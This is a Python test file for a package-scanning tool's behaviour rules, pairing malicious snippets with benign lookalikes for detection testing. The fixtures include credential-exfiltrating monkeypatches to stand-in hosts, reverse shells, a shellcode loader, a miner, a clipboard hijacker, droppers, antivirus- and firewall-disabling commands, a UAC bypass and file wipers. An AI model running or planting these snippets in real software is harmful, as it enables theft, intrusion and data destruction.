"""Behaviour rules: each with a malicious snippet and the benign code that looks like it."""

from __future__ import annotations

import ast

from rulekit import ids, py, run, severities

from pipvet.analysis.context import FileContext, FileKind
from pipvet.analysis.rules import behaviour
from pipvet.models import Severity, Stage

R = behaviour.RULES


def test_constructor_patched_at_import_with_a_sender() -> None:
    source = (
        "import requests\n"
        "from cryptopay import CryptoPay\n"
        "_orig = CryptoPay.__init__\n"
        "def _init(self, token, *a, **k):\n"
        "    requests.post('https://collector.example/t', data={'t': token})\n"
        "    _orig(self, token, *a, **k)\n"
        "CryptoPay.__init__ = _init\n"
    )
    bad = py(source)
    found = [f for f in run(R, bad) if f.rule == "PV-BEH-MONKEYPATCH"]
    assert found
    # the replacement itself posts what it is handed to an address written into it
    assert found[0].severity is Severity.CRITICAL
    assert "collector.example" in found[0].message
    assert found[0].line == 7
    configured = py(source.replace("'https://collector.example/t'", "settings.endpoint"))
    found = [f for f in run(R, configured) if f.rule == "PV-BEH-MONKEYPATCH"]
    assert [f.severity for f in found] == [Severity.HIGH]


def test_a_replacement_that_reports_every_call_to_a_fixed_address_is_critical() -> None:
    bad = py(
        "import requests\n"
        "_orig = requests.Session.request\n"
        "def spy(self, method, url, **kw):\n"
        "    requests.post('http://x.invalid/log', json={'url': url, 'headers': kw.get('headers')})\n"
        "    return _orig(self, method, url, **kw)\n"
        "requests.Session.request = spy\n"
    )
    assert [f.severity for f in run(R, bad) if f.rule == "PV-BEH-MONKEYPATCH"] == [Severity.CRITICAL]
    retry = py(
        "import requests\n"
        "_orig = requests.Session.request\n"
        "def with_retry(self, method, url, **kw):\n"
        "    for _ in range(3):\n"
        "        r = _orig(self, method, url, **kw)\n"
        "        if r.ok:\n"
        "            return r\n"
        "    return r\n"
        "requests.Session.request = with_retry\n"
    )
    assert [f.severity for f in run(R, retry) if f.rule == "PV-BEH-MONKEYPATCH"] == [Severity.MEDIUM]


def test_a_replacement_posting_from_a_thread_to_a_module_constant_address_is_critical() -> None:
    """semantic-types' shape: ``Keypair.__new__`` swapped for a wrapper that hands the new key to
    a helper, whose nested function posts it from a thread to an address kept in a constant;
    the patch is made while a submodule the package imports loads."""
    source = (
        "import threading, requests\n"
        "from solders.keypair import Keypair\n"
        "_RPC = 'https://rpc.example.invalid'\n"
        "def _ship(secret):\n"
        "    def go():\n"
        "        requests.post(_RPC, json={'params': [secret.hex()]})\n"
        "    threading.Thread(target=go, daemon=True).start()\n"
        "_orig_new = Keypair.__new__\n"
        "def _new(cls, *a, **kw):\n"
        "    kp = _orig_new(cls, *a, **kw)\n"
        "    _ship(bytes(kp))\n"
        "    return kp\n"
        "Keypair.__new__ = _new\n"
    )
    found = run(R, py(source, path="acme/_compat.py", stage=Stage.RUNTIME))
    assert [(f.rule, f.severity, f.stage) for f in found] == [
        ("PV-BEH-MONKEYPATCH", Severity.CRITICAL, Stage.IMPORT)
    ]
    assert "rpc.example.invalid" in found[0].message


def _entered(source: str, path: str, *entries: str) -> FileContext:
    """A run-time module whose functions ``entries`` another module calls as it loads."""
    return FileContext(
        path=path,
        data=source.encode(),
        kind=FileKind.PYTHON,
        stage=Stage.RUNTIME,
        text=source,
        tree=ast.parse(source),
        entries=frozenset(entries),
    )


def test_a_class_handed_to_a_patcher_that_reports_to_a_fixed_address() -> None:
    """ccxt-mexc-futures' shape: ``__init__.py`` calls ``patch(ccxt.mexc)`` as it loads, and
    ``patch`` swaps the exchange's order method for one that posts the order and the API keys
    to a relay; a class decorator that registers a local method sends nowhere."""
    source = (
        "import json, requests\n"
        "_RELAY = 'https://relay.example.invalid/order'\n"
        "def patch(cls):\n"
        "    def submit(self, params=None):\n"
        "        params = dict(params or {}, key=self.apiKey, secret=self.secret)\n"
        "        return requests.post(_RELAY, data=json.dumps(params)).json()\n"
        "    cls.private_post_order_submit = submit\n"
        "    return cls\n"
    )
    loaded = _entered(source, "acme/futures.py", "patch")
    found = [f for f in run(R, loaded) if f.rule == "PV-BEH-MONKEYPATCH"]
    assert [(f.severity, f.stage) for f in found] == [(Severity.CRITICAL, Stage.IMPORT)]
    assert "relay.example.invalid" in found[0].message
    # nobody calls it as the package loads: a library function like any other
    assert run(R, py(source, path="acme/futures.py", stage=Stage.RUNTIME)) == []
    registry = (
        "import requests\n"
        "def register(cls):\n"
        "    def fetch(self, url):\n"
        "        return requests.get(url).json()\n"
        "    cls.fetch = fetch\n"
        "    return cls\n"
    )
    loaded = _entered(registry, "acme/api.py", "register")
    assert "PV-BEH-MONKEYPATCH" not in ids(run(R, loaded))


def test_special_method_fix_that_sends_nothing_is_medium() -> None:
    """pyhocon replaces pyparsing's ``__getattr__`` with a local fix in a module that also
    fetches included files: the replacement never reaches the network."""
    fix = py(
        "import pyparsing\nfrom urllib.request import urlopen\n"
        "def fixed_get_attr(self, item):\n"
        "    if item == '__deepcopy__':\n        raise AttributeError(item)\n"
        "    return self[item]\n"
        "pyparsing.ParseResults.__getattr__ = fixed_get_attr\n"
        "def include(url):\n    return urlopen(url).read()\n"
    )
    found = [f for f in run(R, fix) if f.rule == "PV-BEH-MONKEYPATCH"]
    assert [f.severity for f in found] == [Severity.MEDIUM]
    # The same shape whose replacement reports through a helper to a fixed address is critical.
    relay = py(
        "import pyparsing\nfrom urllib.request import urlopen\n"
        "def _send(v):\n    urlopen('https://collector.example/?' + str(v))\n"
        "def fixed_get_attr(self, item):\n    _send(item)\n    return self[item]\n"
        "pyparsing.ParseResults.__getattr__ = fixed_get_attr\n"
    )
    found = [f for f in run(R, relay) if f.rule == "PV-BEH-MONKEYPATCH"]
    assert [f.severity for f in found] == [Severity.CRITICAL]


def test_patching_inside_an_explicit_function_and_config_tweaks_do_not_fire() -> None:
    benign = py(
        "import socket, ssl, sys, json\n"
        "def patch_all():\n"
        "    socket.socket = _GreenSocket\n"
        "ssl._create_default_https_context = ssl._create_unverified_context\n"
        "sys.excepthook = lambda *a: None\n"
        "json.encoder.FLOAT_REPR = repr\n"
        "class _GreenSocket: pass\n"
    )
    assert "PV-BEH-MONKEYPATCH" not in ids(run(R, benign))
    build = py(  # apsw's setup.py: customising the build, not another library's users
        "import distutils.dist, urllib.request\n"
        "def _find(self):\n    return []\n"
        "distutils.dist.Distribution.find_config_files = _find\n"
        "def fetch():\n    return urllib.request.urlopen('https://sqlite.example/s.zip').read()\n"
    )
    assert "PV-BEH-MONKEYPATCH" not in ids(run(R, build))


def test_cryptominer() -> None:
    bad = py("import os\nos.system('./xmrig -o stratum+tcp://pool.example:3333 -u 4' + 'A' * 94)\n")
    found = [f for f in run(R, bad) if f.rule == "PV-BEH-MINER"]
    assert found
    assert found[0].severity is Severity.CRITICAL
    benign = py("def mine(rows):\n    '''Data mining over rows.'''\n    return [r for r in rows if r]\n")
    assert run(R, benign) == []


def test_shellcode_loader_and_memfd() -> None:
    bad = py(
        "import ctypes\n"
        "import base64\n"
        "k = ctypes.windll.kernel32\n"
        "sc = base64.b64decode(BLOB)\n"
        "p = k.VirtualAlloc(0, len(sc), 0x3000, 0x40)\n"
        "k.RtlMoveMemory(p, sc, len(sc))\n"
        "k.CreateThread(0, 0, p, 0, 0, 0)\n"
    )
    found = [f for f in run(R, bad) if f.rule == "PV-BEH-FILELESS"]
    assert found
    assert found[0].severity is Severity.CRITICAL
    memfd = py(
        "import os\nfd = os.memfd_create('x')\nos.write(fd, payload)\n"
        "os.execv(f'/proc/self/fd/{fd}', ['x'])\n"
    )
    assert "PV-BEH-FILELESS" in ids(run(R, memfd))
    embedded = py(
        "import ctypes, mmap\n"
        "sc = b'" + "\\x90" * 64 + "'\n"
        "m = mmap.mmap(-1, len(sc), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n"
        "m.write(sc)\n"
        "f = ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_void_p.from_buffer(m)))\n"
    )
    assert [f.severity for f in run(R, embedded) if f.rule == "PV-BEH-FILELESS"] == [Severity.CRITICAL]
    benign = py("import os\nfd = os.memfd_create('buffer')\nos.write(fd, b'cache')\n")
    assert run(R, benign) == []


def test_api_names_in_a_scanners_keyword_table_are_not_calls() -> None:
    """oletools' olevba lists what macros may call: VirtualAlloc, CreateThread, Start-Process,
    DownloadFile, in a table of 60+ keywords. Names it looks for, not code it runs."""
    filler = ",\n".join(f"    'Keyword {i}': ('k{i}a', 'k{i}b')" for i in range(30))
    table = (
        "import zlib\n"
        "data = zlib.decompress(blob)\n"
        "SUSPICIOUS = {\n"
        "    'May inject code into another process': ('CreateThread', 'VirtualAlloc', 'RtlMoveMemory'),\n"
        "    'May run an executable file': ('Start-Process',),\n"
        "    'May download files': ('Net.WebClient', 'DownloadFile', 'URLDownloadToFileA'),\n"
        f"{filler}\n"
        "}\n"
    )
    found = ids(run(R, py(table, path="acme/olevba.py", stage=Stage.RUNTIME)))
    assert "PV-BEH-FILELESS" not in found
    assert "PV-BEH-LAUNCH" not in found


def test_cpu_probes_and_win32_bindings_are_not_shellcode_loaders() -> None:
    probe = py(
        "import ctypes, mmap\n"
        "code = bytes.fromhex('53 0F A2 5B C3')  # cpuid\n"
        "buf = mmap.mmap(-1, len(code), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n"
        "fn = ctypes.CFUNCTYPE(ctypes.c_uint32)(ctypes.addressof(ctypes.c_char.from_buffer(buf)))\n"
    )
    assert [f.severity for f in run(R, probe) if f.rule == "PV-BEH-FILELESS"] == [Severity.LOW]
    binding = py(
        "from ctypes import windll\n"
        "def VirtualAllocEx(hProcess, lpAddress=0, dwSize=0x1000):\n"
        "    return windll.kernel32.VirtualAllocEx(hProcess, lpAddress, dwSize, 0x3000, 0x40)\n"
        "def CreateRemoteThread(hProcess, start):\n"
        "    return windll.kernel32.CreateRemoteThread(hProcess, None, 0, start, None, 0, None)\n"
    )
    assert "PV-BEH-FILELESS" not in ids(run(R, binding))
    capability_only = py(
        "import ctypes\nk = ctypes.windll.kernel32\n"
        "def inject(proc, code):\n"
        "    p = k.VirtualAllocEx(proc, 0, len(code), 0x3000, 0x40)\n"
        "    k.WriteProcessMemory(proc, p, code, len(code), None)\n"
    )
    assert [f.severity for f in run(R, capability_only) if f.rule == "PV-BEH-FILELESS"] == [Severity.MEDIUM]


def test_sandbox_evasion_needs_several_indicators() -> None:
    bad = py(
        "import psutil\n"
        "BAD = ['vboxservice.exe', 'vmtoolsd.exe', 'wireshark.exe', 'x64dbg.exe', 'procmon.exe']\n"
        "if any(p.name().lower() in BAD for p in psutil.process_iter()): raise SystemExit\n"
    )
    found = run(R, bad)
    assert found
    assert found[0].rule == "PV-BEH-EVASION"
    assert found[0].severity is Severity.HIGH
    benign = py("HINT = 'capture traffic with Wireshark'\n")
    assert run(R, benign) == []


def test_clipboard_hijack_versus_clipboard_helper() -> None:
    bad = py(
        "import re, pyperclip\n"
        "BTC = re.compile(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$')\n"
        "while True:\n"
        "    if BTC.match(pyperclip.paste()):\n"
        "        pyperclip.copy('1BoatSLRHtKNngkdXEeobR76b53LETtpyT')\n"
    )
    found = run(R, bad)
    assert found
    assert found[0].rule == "PV-BEH-CLIPPER"
    assert found[0].severity is Severity.CRITICAL
    benign = py("import pyperclip\ndef copy_result(text):\n    pyperclip.copy(text)\n")
    assert run(R, benign) == []


def test_reverse_shell_in_setup() -> None:
    bad = py(
        "import socket, os, pty\n"
        "s = socket.socket(); s.connect(('attacker.example', 4444))\n"
        "os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)\n"
        "pty.spawn('/bin/sh')\n",
        path="x-1.0/setup.py",
        stage=Stage.INSTALL,
    )
    found = run(R, bad)
    assert found
    assert found[0].rule == "PV-BEH-REVSHELL"
    assert found[0].stage is Stage.INSTALL
    one_liner = py("import os\nos.system('bash -i >& /dev/tcp/10.0.0.1/8080 0>&1')\n")
    assert "PV-BEH-REVSHELL" in ids(run(R, one_liner))
    benign = py("import os, pty\ndef spawn_terminal(fd):\n    os.dup2(fd, 0)\n    pty.spawn('/bin/sh')\n")
    assert run(R, benign) == []


def test_commands_from_a_socket_versus_a_local_control_socket() -> None:
    """A backdoor runs what a remote server sends; a media player's wrapper starts the player
    and reads its replies from a Unix domain socket."""
    loop = (
        "    s.connect(ADDRESS)\n    while True:\n        data = s.recv(1024)\n"
        "        subprocess.run(data.decode(), shell=True)\n"
    )
    remote = py("import socket, subprocess\ns = socket.socket(socket.AF_INET)\ndef go():\n" + loop)
    assert [f.severity for f in run(R, remote) if f.rule == "PV-BEH-REVSHELL"] == [Severity.HIGH]
    local = py("import socket, subprocess\ns = socket.socket(socket.AF_UNIX)\ndef go():\n" + loop)
    assert "PV-BEH-REVSHELL" not in ids(run(R, local))


def test_a_socket_beside_a_fixed_command_versus_a_shell_on_the_socket() -> None:
    """A monitoring client talks to its agent over a socket and, elsewhere, runs ``netstat
    -an``: nothing received can choose what runs. A fixed ``/bin/sh -i`` wired to the same
    socket is a reverse shell, fixed text or not."""
    head = "import socket, subprocess\ns = socket.socket()\ns.connect(ADDRESS)\nreply = s.recv(4)\n"
    netstat = py(head + "def ports():\n    return subprocess.check_output(['netstat', '-an'])\n")
    assert severities(R, netstat, "PV-BEH-REVSHELL") == [Severity.LOW]
    for command in ("['/bin/sh', '-i']", "['python3', '-i']", "reply.decode()"):
        shell = py(head + f"p = subprocess.Popen({command}, stdin=s.fileno(), stdout=s.fileno())\n")
        assert severities(R, shell, "PV-BEH-REVSHELL") == [Severity.HIGH], command


def test_a_port_probe_through_dev_tcp_is_no_shell() -> None:
    """pytest-testinfra checks that a port opens with ``cat < /dev/null > /dev/tcp/h/p``."""
    probe = py("CHECK = \"timeout 1 bash -c 'cat < /dev/null > /dev/tcp/%s/%s'\"\n", stage=Stage.RUNTIME)
    assert "PV-BEH-REVSHELL" not in ids(run(R, probe))
    for shell in ("0<&196;exec 196<>/dev/tcp/h/4444; sh <&196 >&196", "sh -i 2>&1 > /dev/tcp/h/4444"):
        found = run(R, py(f"import os\nos.system('{shell}')\n", stage=Stage.RUNTIME))
        assert "PV-BEH-REVSHELL" in ids(found), shell


def test_launching_a_download_versus_opening_a_document() -> None:
    bad = py(
        "import os, urllib.request, tempfile\n"
        "p = os.path.join(tempfile.gettempdir(), 'upd.exe')\n"
        "urllib.request.urlretrieve('https://files.example/upd.exe', p)\n"
        "os.startfile(p)\n"
    )
    assert "PV-BEH-LAUNCH" in ids(run(R, bad))
    benign = py("import os\ndef launch(path):\n    os.startfile(path)\n")
    assert run(R, benign) == []


def test_web_shell_versus_ordinary_web_app() -> None:
    bad = py(
        "import subprocess\n"
        "from flask import Flask, request\n"
        "app = Flask(__name__)\n"
        "@app.route('/x')\n"
        "def x():\n"
        "    return subprocess.Popen(request.args.get('c'), shell=True, stdout=-1).stdout.read()\n"
        "app.run(host='0.0.0.0', port=54689)\n"
    )
    found = run(R, bad)
    assert [f.rule for f in found] == ["PV-BEH-REVSHELL"]
    assert found[0].severity is Severity.HIGH
    benign = py(
        "from flask import Flask, request\n"
        "app = Flask(__name__)\n"
        "@app.route('/x')\n"
        "def x():\n"
        "    return request.args.get('name', '')\n"
        "if __name__ == '__main__':\n"
        "    app.run(host='127.0.0.1')\n"
    )
    assert run(R, benign) == []
    cgi = py(
        "import subprocess\nfrom http.server import HTTPServer, BaseHTTPRequestHandler\n"
        "class H(BaseHTTPRequestHandler):\n"
        "    def do_GET(self):\n"
        "        node = self.path[1:]\n"
        "        out = subprocess.Popen(['ninja', '-t', 'query', node], stdout=-1).communicate()[0]\n"
        "HTTPServer(('127.0.0.1', 8000), H).serve_forever()\n"
    )
    assert [f.severity for f in run(R, cgi) if f.rule == "PV-BEH-REVSHELL"] == [Severity.LOW]


def test_start_command_on_a_download() -> None:
    bad = py(
        "import os, urllib.request\n"
        "def drop():\n"
        "    path = os.getenv('TEMP') + '\\\\Bin.exe'\n"
        "    open(path, 'wb').write(urllib.request.urlopen('https://x.example/b').read())\n"
        "    os.system(f'start {path}')\n"
    )
    assert "PV-BEH-LAUNCH" in ids(run(R, bad))
    benign = py("import os\ndef open_docs():\n    os.system('start https://docs.example/')\n")
    assert run(R, benign) == []


def test_dropper_from_a_raw_ip_is_critical() -> None:
    bad = py(
        "import os, requests\n"
        "def fetch():\n"
        "    exe = os.getenv('TEMP') + '\\\\svc.exe'\n"
        "    open(exe, 'wb').write(requests.get('http://45.13.7.9/all.txt').content)\n"
        "    os.system(f'start /B {exe}')\n"
    )
    found = [f for f in run(R, bad) if f.rule == "PV-BEH-LAUNCH"]
    assert found
    assert found[0].severity is Severity.CRITICAL


def test_the_import_of_a_downloader_is_not_where_it_downloads() -> None:
    """azureml-core vendors azure-cli-core: ``from urllib.request import urlopen`` at the top, a
    version check that fetches in one function and a browser opener that runs ``Start-Process``
    in another. The helpers are weighed where the fetch happens, not where it was imported."""
    two_features = py(
        "import subprocess\nfrom urllib.request import urlopen\n"
        "def latest():\n    return urlopen('https://example.invalid/v').read()\n"
        "def open_page(url):\n"
        "    subprocess.Popen(['powershell.exe', '-Command', 'Start-Process \"{}\"'.format(url)])\n"
    )
    found = [f for f in run(R, two_features) if f.rule == "PV-BEH-LAUNCH"]
    assert [f.severity for f in found] == [Severity.MEDIUM]
    assert "(line 4:" in found[0].message
    # With no other download line, the import is still what is weighed (nothing is dropped).
    only_import = py(
        "import subprocess\nfrom urllib.request import urlopen as fetch\n"
        "def run(url):\n    data = fetch(url).read()\n"
        "    subprocess.Popen(['powershell.exe', '-Command', 'Start-Process \"x.exe\"'])\n"
    )
    assert "PV-BEH-LAUNCH" in ids(run(R, only_import))


def test_miner_config_written_by_setup() -> None:
    bad = py(
        'open(\'/tmp/config.json\', \'w\').write(\'{"cpu": true, "pools": [{"url": "pool.example:3333", '
        '"nicehash": true}]}\')\n',
        path="x-1.0/setup.py",
        stage=Stage.INSTALL,
    )
    assert "PV-BEH-MINER" in ids(run(R, bad))
    benign = py("POOLS = {'pools': 4}\nconfig = {'max_pool_size': 10}\n")
    assert run(R, benign) == []


def test_memfd_for_certificates_is_not_fileless_execution() -> None:
    benign = py(
        "import os, subprocess\n"
        "# write the bytes to anonymous in-memory files using memfd_create; yields /proc/self/fd/... paths\n"
        "def paths(cert):\n"
        "    fd = os.memfd_create('cert', os.MFD_CLOEXEC)\n"
        "    os.write(fd, cert)\n"
        "    return f'/proc/self/fd/{fd}'\n"
        "def provider(cmd):\n"
        "    return subprocess.run(cmd, capture_output=True)\n"
    )
    assert run(R, benign) == []


def test_configuring_a_local_app_object_is_not_patching() -> None:
    benign = py(
        "from fastapi import FastAPI\n"
        "app = FastAPI()\n"
        "def custom_openapi():\n"
        "    return {}\n"
        "app.openapi = custom_openapi\n"
    )
    assert "PV-BEH-MONKEYPATCH" not in ids(run(R, benign))


def test_a_download_and_a_start_in_unrelated_functions_weigh_little() -> None:
    source = (
        "import subprocess, requests\n"
        "def latest_version(url):\n"
        "    return requests.get(url, timeout=10).json()\n"
        "def open_page(url):\n"
        "    subprocess.Popen(['powershell.exe', '-Command', f\"Start-Process '{url}'\"]).wait()\n"
    )
    assert severities(R, py(source, stage=Stage.RUNTIME), "PV-BEH-LAUNCH") == [Severity.MEDIUM]
    together = (
        "import subprocess, requests\n"
        "def update(url):\n"
        "    open('setup.exe', 'wb').write(requests.get(url).content)\n"
        "    subprocess.Popen(['powershell.exe', '-Command', 'Start-Process setup.exe'])\n"
    )
    assert severities(R, py(together, stage=Stage.RUNTIME), "PV-BEH-LAUNCH") == [Severity.CRITICAL]


def test_turning_off_antivirus_or_the_firewall_at_import_is_critical() -> None:
    for command in (
        "['powershell', '-Command', 'Add-MpPreference -ExclusionPath C:\\\\']",
        "'powershell Set-MpPreference -DisableRealtimeMonitoring $true'",
        "'netsh advfirewall set allprofiles state off'",
        "'vssadmin delete shadows /all /quiet'",
    ):
        source = f"import subprocess\nsubprocess.run({command}, shell=True)\n"
        found = [f for f in run(R, py(source, path="acme/__init__.py")) if f.rule == "PV-BEH-DEFENCE"]
        assert [(f.severity, f.stage) for f in found] == [(Severity.CRITICAL, Stage.IMPORT)], command
    managed = (
        "import subprocess\ndef exclude(path):\n"
        "    subprocess.run(['powershell', f'Add-MpPreference -ExclusionPath {path}'])\n"
    )
    assert severities(R, py(managed, path="acme/defender.py", stage=Stage.RUNTIME), "PV-BEH-DEFENCE") == [
        Severity.MEDIUM
    ]
    documented = (
        "# run `netsh advfirewall set allprofiles state off` yourself if the port is blocked\nPORT = 80\n"
    )
    assert "PV-BEH-DEFENCE" not in ids(run(R, py(documented, path="acme/__init__.py")))


def test_a_walk_of_the_home_folder_that_deletes_or_encrypts_is_a_wiper() -> None:
    """Walking the whole home folder or a drive and deleting or encrypting what is found, as
    the package loads, is destruction; a cache cleaner walks its own folder."""
    wipers = {
        "deletes": "import os\nfor r, d, fs in os.walk(os.path.expanduser('~')):\n"
        "    for n in fs:\n        os.remove(os.path.join(r, n))\n",
        "path": "from pathlib import Path\nfor p in Path.home().rglob('*.docx'):\n    p.unlink()\n",
        "drive": "import glob, os\nfor p in glob.glob('C:\\\\**\\\\*', recursive=True):\n    os.remove(p)\n",
        "root": "import os, shutil\nfor r, d, fs in os.walk('/'):\n    shutil.rmtree(r)\n",
        "encrypts": "import os\nfrom cryptography.fernet import Fernet\nF = Fernet(Fernet.generate_key())\n"
        "for r, d, fs in os.walk(os.environ['USERPROFILE']):\n    for n in fs:\n"
        "        p = os.path.join(r, n)\n        open(p, 'wb').write(F.encrypt(open(p, 'rb').read()))\n",
    }
    for name, source in wipers.items():
        assert severities(R, py(source), "PV-BEH-WIPER") == [Severity.CRITICAL], name
    on_request = "import os\ndef wipe():\n" + "".join(
        "    " + line + "\n" for line in wipers["deletes"].splitlines()[1:]
    )
    assert severities(R, py(on_request), "PV-BEH-WIPER") == [Severity.MEDIUM]
    noted = on_request + "NOTE = 'Your files are encrypted. Send 0.1 BTC to get the decryption key'\n"
    assert severities(R, py(noted), "PV-BEH-WIPER") == [Severity.HIGH]
    cache = "import os\nfor r, d, fs in os.walk(os.path.expanduser('~/.cache/acme')):\n"
    cache += "    for n in fs:\n        os.remove(n)\n"
    backup = "import os\ndef seal(folder, f):\n    for r, d, fs in os.walk(folder):\n        for n in fs:\n"
    backup += "            open(n + '.enc', 'wb').write(f.encrypt(open(n, 'rb').read()))\n"
    results = "import glob, os\ndef clean(output_path):\n"
    results += "    for p in glob.glob(f'{output_path}/**/*.json', recursive=True):\n        os.remove(p)\n"
    for benign in (cache, backup, results):
        assert "PV-BEH-WIPER" not in ids(run(R, py(benign))), benign


def test_a_uac_bypass_through_an_auto_elevating_program_is_a_defence_bypassed() -> None:
    """fodhelper.exe runs elevated and opens the ms-settings handler: set it, and the attacker's
    command gets administrator rights without a prompt."""
    bad = py(
        "import subprocess, sys, winreg\n"
        "KEY = r'Software\\Classes\\ms-settings\\shell\\open\\command'\n"
        "k = winreg.CreateKey(winreg.HKEY_CURRENT_USER, KEY)\n"
        "winreg.SetValueEx(k, None, 0, winreg.REG_SZ, sys.executable + ' agent.py')\n"
        "subprocess.Popen('fodhelper.exe', shell=True)\n",
        path="acme/__init__.py",
    )
    assert severities(R, bad, "PV-BEH-DEFENCE") == [Severity.CRITICAL]
    # registering an open handler for the package's own file type is what installers do
    handler = py(
        "import winreg\ndef register(exe):\n"
        "    key = r'Software\\Classes\\acmefile\\shell\\open\\command'\n"
        "    k = winreg.CreateKey(winreg.HKEY_CURRENT_USER, key)\n"
        "    winreg.SetValueEx(k, None, 0, winreg.REG_SZ, exe + ' \"%1\"')\n",
        path="acme/assoc.py",
        stage=Stage.RUNTIME,
    )
    assert "PV-BEH-DEFENCE" not in ids(run(R, handler))


def test_a_builtin_replaced_at_import_by_a_function_that_sends() -> None:
    """``builtins.open = _open``: every file any code of the program opens passes through the
    replacement, which posts the secrets among them."""
    bad = py(
        "import builtins, urllib.request\n_real = builtins.open\n"
        "def _open(file, *a, **k):\n"
        "    if str(file).endswith('.pem'):\n"
        "        urllib.request.urlopen('https://h.example/f', data=_real(file, 'rb').read())\n"
        "    return _real(file, *a, **k)\n"
        "builtins.open = _open\n",
        path="acme/__init__.py",
    )
    found = [f for f in run(R, bad) if f.rule == "PV-BEH-MONKEYPATCH"]
    assert [f.severity for f in found] == [Severity.CRITICAL]
    assert "builtins.open" in found[0].message
    # a local replacement that sends nothing (a Python 2 shim) is no theft
    shim = py(
        "import builtins, io, urllib.request\nbuiltins.open = io.open\n"
        "def fetch(u):\n    return urllib.request.urlopen(u).read()\n",
        path="acme/compat.py",
    )
    assert "PV-BEH-MONKEYPATCH" not in ids(run(R, shim))


def test_a_function_added_where_the_platform_lacks_it_is_no_patch() -> None:
    """ip2location defines socket.inet_pton on Windows, where the module has none."""
    shim = py(
        "import socket, urllib.request\nif not hasattr(socket, 'inet_pton'):\n"
        "    def inet_pton(family, addr):\n        return b''\n    socket.inet_pton = inet_pton\n"
        "def lookup(ip):\n    return urllib.request.urlopen('https://h.example/' + ip).read()\n",
        path="acme/tools.py",
    )
    assert "PV-BEH-MONKEYPATCH" not in ids(run(R, shim))
    replaced = py(
        "import socket, urllib.request\nif hasattr(socket, 'inet_pton'):\n"
        "    def inet_pton(family, addr):\n        return b''\n    socket.inet_pton = inet_pton\n"
        "def lookup(ip):\n    return urllib.request.urlopen('https://h.example/' + ip).read()\n",
        path="acme/tools.py",
    )
    assert "PV-BEH-MONKEYPATCH" in ids(run(R, replaced))
